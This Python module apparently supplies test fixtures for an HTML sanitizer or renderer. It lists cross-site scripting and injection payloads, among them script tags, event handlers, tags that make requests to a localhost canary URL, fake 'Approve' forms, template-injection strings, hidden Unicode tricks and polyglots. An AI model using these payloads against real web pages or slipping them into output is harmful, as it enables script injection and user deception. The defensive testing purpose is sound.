"""Texts that try to be more than text. `CANARY` is an address that nothing may ever ask for."""

CANARY = "http://127.0.0.1:9/canary"

_SCRIPTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</pre></section></main><script>alert(1)</script>
</option></select><script>alert(1)</script>
</legend></fieldset></form><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
`><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<script src=CANARY></script>
<script type=module>import 'CANARY'</script>
<script>fetch('CANARY')</script>
<<script>alert(1)//<</script>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>new Image().src='CANARY'</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><script>alert(1)</script></xmp>
<plaintext>
<![CDATA[<script>alert(1)</script>]]>
<!--<script>alert(1)</script>-->
<?xml version="1.0"?><script>alert(1)</script>
<!doctype html><script>alert(1)</script>
"""

_HANDLERS = """
<img src=x onerror=alert(1)>
<img src=CANARY>
<img srcset="CANARY 1x">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><image href="CANARY"/></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="CANARY#x"></use></svg>
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video src=CANARY onerror=alert(1)>
<video poster=CANARY></video>
<audio src=CANARY onerror=alert(1)>
<source src=CANARY onerror=alert(1)>
<track src=CANARY default>
<marquee onstart=alert(1)>
<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>
<a href=javascript:alert(1)>click</a>
<a href=CANARY ping=CANARY>click</a>
<math href=javascript:alert(1)>x</math>
" onfocus=alert(1) autofocus x="
' onfocus=alert(1) autofocus x='
` onfocus=alert(1) autofocus x=`
x onfocus=alert(1) autofocus
" onclick="alert(1)
"/onmouseover=alert(1)//
" style="background:url(CANARY)
" autofocus onfocus="alert(1)" value="
" formaction="CANARY
" type="image" src="CANARY
" name="action" value="accept
"""

_LOADS = """
<link rel=stylesheet href=CANARY>
<link rel=icon href=CANARY>
<link rel=preload href=CANARY as=script>
<link rel=prefetch href=CANARY>
<link rel=dns-prefetch href=CANARY>
<link rel=preconnect href=CANARY>
<link rel=manifest href=CANARY>
<meta http-equiv=refresh content="0;url=CANARY">
<meta http-equiv=Content-Security-Policy content="default-src *">
<base href=CANARY>
<style>@import 'CANARY';</style>
<style>body{background:url(CANARY)}</style>
<style>@font-face{font-family:x;src:url(CANARY)}*{font-family:x}</style>
<div style="background:url(CANARY)">x</div>
<iframe src=CANARY></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<frameset><frame src=CANARY></frameset>
<object data=CANARY></object>
<embed src=CANARY>
<applet code=CANARY></applet>
<portal src=CANARY></portal>
<form action=CANARY><button>Approve</button></form>
<form id=x></form><button form=x formaction=CANARY>Approve</button>
</form><form action=CANARY method=post>
<button name=action value=accept>Approve</button>
<input type=hidden name=action value=accept>
<input type=image src=CANARY>
<isindex action=CANARY>
<template><script>alert(1)</script></template>
<dialog open><h1>Your approval is needed</h1></dialog>
<table background=CANARY><tr><td>x</table>
<bgsound src=CANARY>
<image src=CANARY>
<picture><source srcset=CANARY><img></picture>
<fencedframe src=CANARY></fencedframe>
<slot onslotchange=alert(1)>
<html manifest=CANARY>
"""

_TEXTS = """
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
CANARY
//127.0.0.1:9/canary
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&lt
&
&amp;amp;
&quot; onfocus=alert(1) autofocus x=&quot;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
{{constructor.constructor('alert(1)')()}}
${alert(1)}
<%= 7*7 %>
#{7*7}
{0.__class__}
%s%s%n
<
>
"
'
`
</
<!
<!--
-->
<a
=
/>
*/}body{background:url(CANARY)}/*
;alert(1)//
__proto__
"""

_HIDDEN = [
    "\u202etpircs\u202c",
    "a\u2066b\u2067c\u2068d\u2069",
    "\u200e\u200f\u061c",
    "null\x00byte<script>alert(1)</script>",
    "\x1b[31mred\x1b]0;title\x07",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028alert(1)\u2029",
    "zero\u200bwidth\u2060",
    "tag\U000e0041\U000e0042",
    "<\x0cimg\x0csrc=x\x0conerror=alert(1)>",
    "<img\x0bsrc=x onerror=alert(1)>",
    "\x7f\x80\x9f",
    "a" + "\u0301" * 80,
    "\u3164\uffa0\u115f",
    "\ud800 lone",
    "\uffff\ufffe",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u017fcript <\u017fcript>",
    "<\u212a>",
]

PAYLOADS = [
    line.replace("CANARY", CANARY)
    for text in (_SCRIPTS, _HANDLERS, _LOADS, _TEXTS)
    for line in text.strip().splitlines()
] + _HIDDEN

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=alert(1) )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "<sVg/<sVg/oNloAd=alert(1)//>",
    f"'\"--></style></title></textarea></option></select></fieldset></section></form></main>"
    f"<script src={CANARY}></script><img src={CANARY} onerror=alert(1)><base href={CANARY}>",
    f"\u202e\x00\"' autofocus onfocus=alert(1) style=background:url({CANARY}) formaction={CANARY} `&lt;&#60;",
]
